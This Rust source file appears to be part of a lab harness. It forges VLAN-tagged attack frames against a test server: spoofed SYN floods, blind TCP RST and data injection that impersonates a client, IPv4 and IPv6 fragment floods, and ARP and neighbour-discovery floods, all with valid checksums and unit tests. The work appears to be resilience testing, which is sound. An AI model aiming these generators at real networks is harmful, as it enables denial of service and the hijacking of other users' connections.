//! The frames that attackers send, each with its VLAN tag in line and its checksums right.

use std::net::{Ipv4Addr, Ipv6Addr};
use std::ops::Range;

use tagwire_lab::{CLIENT_ADDRESS, CLIENT_MAC, Lab, Pod, SplitMix64};

use crate::reflector::{fold, sum};

/// The attacker's own station: another one of the segment, to which all answers go.
pub const ATTACKER_MAC: [u8; 6] = [0x02, 0x74, 0x77, 0x00, 0x66, 0x66];
const HTTP: u16 = 80;

const FIN: u8 = 1;
const SYN: u8 = 2;
const RST: u8 = 4;
const PSH: u8 = 8;
const ACK: u8 = 16;

/// What is sent.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Attack {
    /// SYNs as Linux sends them, from sources in 10.0.0.0/8: the answers go to the gateway.
    SynOffLink,
    /// SYNs from stations of the subnet that are not there: each answer wants a neighbour.
    SynOnLink,
    /// RST, SYN, FIN, data and ACK that pretend to be of the client's connections, with a
    /// guessed port of these and guessed numbers.
    Blind(Range<u16>),
    /// Fragments of IPv4 packets of which the rest never comes: first ones and later ones.
    Fragments,
    /// The same of IPv6.
    FragmentsV6,
    /// ARP requests for the server from a station and an address that is new each time.
    Arp,
    /// Neighbour solicitations and unsolicited advertisements, likewise.
    Neighbours,
    /// What nobody hears: the generator's own cost for the client beside it.
    Nobody,
}

/// What of a TCP segment differs from attack to attack.
struct Segment<'a> {
    /// Sequence and acknowledgement number.
    numbers: (u32, u32),
    flags: u8,
    options: &'a [u8],
    payload: &'a [u8],
}

/// Writes frames for one server.
#[derive(Debug, Clone)]
pub struct Forge {
    attack: Attack,
    server_mac: [u8; 6],
    server: Ipv4Addr,
    server_v6: Ipv6Addr,
    vlan: Option<u16>,
    random: SplitMix64,
}

impl Forge {
    /// For what is in `pod`; the seed decides on every octet.
    pub fn new(lab: &Lab, pod: &Pod, attack: Attack, seed: u64) -> Self {
        Self {
            attack,
            server_mac: pod.mac(),
            server: pod.address(),
            server_v6: pod.address_v6(),
            vlan: lab.vlan(),
            random: SplitMix64::new(seed),
        }
    }

    /// Writes the next frame over what is in `frame`.
    pub fn write(&mut self, frame: &mut Vec<u8>) {
        frame.clear();
        match self.attack {
            Attack::SynOffLink => {
                let source = self.off_link();
                self.syn(frame, source);
            }
            Attack::SynOnLink => {
                let source = self.on_link();
                self.syn(frame, source);
            }
            Attack::Blind(ref ports) => {
                let ports = ports.clone();
                self.blind(frame, ports);
            }
            Attack::Fragments => self.fragment(frame),
            Attack::FragmentsV6 => self.fragment_v6(frame),
            Attack::Arp => self.arp(frame),
            Attack::Neighbours => self.neighbour(frame),
            Attack::Nobody => {
                self.syn(frame, Ipv4Addr::new(10, 0, 0, 1));
                // A station that is not there: the node's bridge drops it.
                frame[..6].copy_from_slice(&ATTACKER_MAC);
            }
        }
    }

    /// 10.0.0.0/8, but for its ends.
    fn off_link(&mut self) -> Ipv4Addr {
        Ipv4Addr::from(0x0a00_0000 | (1 + self.below(0x00ff_fffe)))
    }

    /// The subnet, but for the client, the pods and its ends.
    fn on_link(&mut self) -> Ipv4Addr {
        Ipv4Addr::new(192, 168, 123, 2 + self.below(148) as u8)
    }

    fn below(&mut self, limit: u32) -> u32 {
        (self.random.next() % u64::from(limit)) as u32
    }

    fn number(&mut self) -> u32 {
        self.random.next() as u32
    }

    /// A station's address that no card has: locally administered, unicast.
    fn station(&mut self) -> [u8; 6] {
        let [a, b, c, d, ..] = self.random.next().to_be_bytes();
        [0x02, 0x66, a, b, c, d]
    }

    fn ethernet(&self, frame: &mut Vec<u8>, from: [u8; 6], ethertype: u16) {
        frame.extend_from_slice(&self.server_mac);
        frame.extend_from_slice(&from);
        if let Some(vlan) = self.vlan {
            frame.extend_from_slice(&[0x81, 0x00]);
            frame.extend_from_slice(&vlan.to_be_bytes());
        }
        frame.extend_from_slice(&ethertype.to_be_bytes());
    }

    /// An IPv4 header; `fragment` is the flags and the offset.
    fn ipv4(
        &mut self,
        frame: &mut Vec<u8>,
        source: Ipv4Addr,
        protocol: u8,
        fragment: u16,
        payload: usize,
    ) {
        let at = frame.len();
        let total = (20 + payload) as u16;
        let id = self.number() as u16;
        frame.extend_from_slice(&[0x45, 0]);
        for field in [total, id, fragment] {
            frame.extend_from_slice(&field.to_be_bytes());
        }
        frame.extend_from_slice(&[64, protocol, 0, 0]);
        frame.extend_from_slice(&source.octets());
        frame.extend_from_slice(&self.server.octets());
        let checksum = !fold(sum(&frame[at..]));
        frame[at + 10..at + 12].copy_from_slice(&checksum.to_be_bytes());
    }

    /// A TCP segment in IPv4.
    fn tcp(&mut self, frame: &mut Vec<u8>, source: Ipv4Addr, port: u16, segment: Segment<'_>) {
        let Segment { numbers: (seq, ack), flags, options, payload } = segment;
        let len = 20 + options.len() + payload.len();
        self.ipv4(frame, source, 6, 0x4000, len);
        let at = frame.len();
        frame.extend_from_slice(&port.to_be_bytes());
        frame.extend_from_slice(&HTTP.to_be_bytes());
        frame.extend_from_slice(&seq.to_be_bytes());
        frame.extend_from_slice(&ack.to_be_bytes());
        frame.extend_from_slice(&[((20 + options.len()) as u8 / 4) << 4, flags, 0xfa, 0xf0]);
        frame.extend_from_slice(&[0; 4]);
        frame.extend_from_slice(options);
        frame.extend_from_slice(payload);
        let pseudo = sum(&frame[at - 8..at]) + 6 + len as u32;
        let checksum = !fold(pseudo + sum(&frame[at..]));
        frame[at + 16..at + 18].copy_from_slice(&checksum.to_be_bytes());
    }

    fn syn(&mut self, frame: &mut Vec<u8>, source: Ipv4Addr) {
        self.ethernet(frame, ATTACKER_MAC, 0x0800);
        let [a, b, c, d] = self.number().to_be_bytes();
        // MSS, SACK permitted, timestamps, no-op, window scale.
        let options = [2, 4, 5, 180, 4, 2, 8, 10, a, b, c, d, 0, 0, 0, 0, 1, 3, 3, 7];
        let port = 1024 + self.below(64_000) as u16;
        let seq = self.number();
        let segment = Segment { numbers: (seq, 0), flags: SYN, options: &options, payload: &[] };
        self.tcp(frame, source, port, segment);
    }

    fn blind(&mut self, frame: &mut Vec<u8>, ports: Range<u16>) {
        let port = ports.start + self.below(ports.len().max(1) as u32) as u16;
        let numbers = (self.number(), self.number());
        let data = &b"GET /injected HTTP/1.1\r\nHost: x\r\n\r\n"[..];
        let (flags, payload) = match self.below(6) {
            0 => (RST, &[][..]),
            1 => (RST | ACK, &[][..]),
            2 => (SYN, &[][..]),
            3 => (PSH | ACK, data),
            4 => (ACK, &[][..]),
            _ => (FIN | ACK, &[][..]),
        };
        // From the client's station too: that is no secret on a segment.
        self.ethernet(frame, CLIENT_MAC, 0x0800);
        let segment = Segment { numbers, flags, options: &[], payload };
        self.tcp(frame, CLIENT_ADDRESS, port, segment);
    }

    fn fragment(&mut self, frame: &mut Vec<u8>) {
        let source = self.off_link();
        self.ethernet(frame, ATTACKER_MAC, 0x0800);
        // More fragments; the first, or one somewhere behind it.
        let offset = self.below(2) * self.below(180);
        let protocol = if self.below(2) == 0 { 6 } else { 17 };
        self.ipv4(frame, source, protocol, 0x2000 | offset as u16, 48);
        frame.resize(frame.len() + 48, b'f');
    }

    /// An IPv6 header.
    fn ipv6(&self, frame: &mut Vec<u8>, source: Ipv6Addr, next: u8, hops: u8, payload: u16) {
        frame.extend_from_slice(&[0x60, 0, 0, 0]);
        frame.extend_from_slice(&payload.to_be_bytes());
        frame.extend_from_slice(&[next, hops]);
        frame.extend_from_slice(&source.octets());
        frame.extend_from_slice(&self.server_v6.octets());
    }

    /// An address of the server's own prefix that is nobody's.
    fn neighbour_v6(&mut self) -> Ipv6Addr {
        let prefix = u128::from(self.server_v6) & !u128::from(u64::MAX);
        Ipv6Addr::from(prefix | u128::from(self.random.next() | 1 << 63))
    }

    fn fragment_v6(&mut self, frame: &mut Vec<u8>) {
        let source = self.neighbour_v6();
        self.ethernet(frame, ATTACKER_MAC, 0x86dd);
        self.ipv6(frame, source, 44, 64, 8 + 48);
        let offset = (self.below(2) * self.below(180)) as u16;
        frame.extend_from_slice(&[6, 0]);
        frame.extend_from_slice(&(offset << 3 | 1).to_be_bytes());
        frame.extend_from_slice(&self.number().to_be_bytes());
        frame.resize(frame.len() + 48, b'f');
    }

    fn arp(&mut self, frame: &mut Vec<u8>) {
        let station = self.station();
        self.ethernet(frame, station, 0x0806);
        // Requests and answers that nobody has asked for.
        let operation = 1 + self.below(2) as u8;
        frame.extend_from_slice(&[0, 1, 8, 0, 6, 4, 0, operation]);
        frame.extend_from_slice(&station);
        // The servers of this case take all of 192.0.0.0/8 for on-link.
        let sender = 0xc000_0000 | self.below(0x00a8_0000);
        frame.extend_from_slice(&sender.to_be_bytes());
        frame.extend_from_slice(&[0; 6]);
        frame.extend_from_slice(&self.server.octets());
    }

    fn neighbour(&mut self, frame: &mut Vec<u8>) {
        let (station, source) = (self.station(), self.neighbour_v6());
        self.ethernet(frame, station, 0x86dd);
        self.ipv6(frame, source, 58, 255, 32);
        let at = frame.len();
        if self.below(2) == 0 {
            // A solicitation of the server, with the sender's link-layer address.
            frame.extend_from_slice(&[135, 0, 0, 0, 0, 0, 0, 0]);
            frame.extend_from_slice(&self.server_v6.octets());
            frame.extend_from_slice(&[1, 1]);
        } else {
            // An advertisement of the sender, to override what is known of it.
            frame.extend_from_slice(&[136, 0, 0, 0, 0x20, 0, 0, 0]);
            frame.extend_from_slice(&source.octets());
            frame.extend_from_slice(&[2, 1]);
        }
        frame.extend_from_slice(&station);
        let pseudo = sum(&frame[at - 32..at]) + 58 + 32;
        let checksum = !fold(pseudo + sum(&frame[at..]));
        frame[at + 2..at + 4].copy_from_slice(&checksum.to_be_bytes());
    }
}

#[cfg(test)]
mod tests {
    use std::collections::HashSet;

    use super::*;

    fn forge(attack: Attack) -> Forge {
        Forge {
            attack,
            server_mac: [2, 0, 0, 0, 0, 1],
            server: Ipv4Addr::new(192, 168, 123, 150),
            server_v6: "fd00:123::150".parse().unwrap(),
            vlan: Some(123),
            random: SplitMix64::new(7),
        }
    }

    fn frames(attack: Attack, count: usize) -> Vec<Vec<u8>> {
        let mut forge = forge(attack);
        let next = |_| {
            let mut frame = vec![0xee; 200];
            forge.write(&mut frame);
            frame
        };
        (0..count).map(next).collect()
    }

    /// Whether the sum of a header and its checksum is right (RFC 1071).
    fn is_right(octets: &[u8], pseudo: u32) -> bool {
        fold(pseudo + sum(octets)) == 0xffff
    }

    #[test]
    fn every_frame_has_the_tag_and_right_checksums() {
        for attack in [
            Attack::SynOffLink,
            Attack::SynOnLink,
            Attack::Blind(40_000..40_064),
            Attack::Fragments,
        ] {
            let is_tcp = attack != Attack::Fragments;
            for frame in frames(attack, 500) {
                assert_eq!(frame[12..18], [0x81, 0, 0, 123, 8, 0]);
                assert!(is_right(&frame[18..38], 0));
                let total = usize::from(u16::from_be_bytes([frame[20], frame[21]]));
                assert_eq!(frame.len(), 18 + total);
                let pseudo = sum(&frame[30..38]) + 6 + (total - 20) as u32;
                assert!(!is_tcp || is_right(&frame[38..], pseudo));
            }
        }
        for frame in frames(Attack::Neighbours, 500) {
            assert_eq!(frame[16..18], [0x86, 0xdd]);
            assert_eq!(frame.len(), 18 + 40 + 32);
            assert!(is_right(&frame[58..], sum(&frame[26..58]) + 58 + 32));
        }
        for frame in frames(Attack::FragmentsV6, 10) {
            assert_eq!(frame.len(), 18 + 40 + 8 + 48);
            assert_eq!(frame[24], 44);
        }
    }

    #[test]
    fn a_flood_of_neighbours_is_of_many_addresses_and_not_the_clients() {
        let senders: HashSet<[u8; 4]> = frames(Attack::Arp, 10_000)
            .iter()
            .map(|frame| frame[32..36].try_into().unwrap())
            .collect();
        assert!(senders.len() > 9900, "{} of 10000", senders.len());
        assert!(!senders.contains(&CLIENT_ADDRESS.octets()));
        let on_link = frames(Attack::SynOnLink, 1000);
        assert!(on_link.iter().all(|frame| (2..150).contains(&frame[33])));
    }

    #[test]
    fn injected_segments_are_of_the_clients_ports_and_of_every_kind() {
        let frames = frames(Attack::Blind(40_000..40_004), 1000);
        let ports: HashSet<u16> =
            frames.iter().map(|frame| u16::from_be_bytes([frame[38], frame[39]])).collect();
        assert_eq!(ports, (40_000..40_004).collect());
        let flags: HashSet<u8> = frames.iter().map(|frame| frame[51]).collect();
        assert_eq!(flags, [RST, RST | ACK, SYN, PSH | ACK, ACK, FIN | ACK].into());
        assert!(frames.iter().all(|frame| frame[30..34] == CLIENT_ADDRESS.octets()));
    }

    #[test]
    fn a_seed_repeats_itself() {
        assert_eq!(frames(Attack::SynOffLink, 50), frames(Attack::SynOffLink, 50));
    }
}
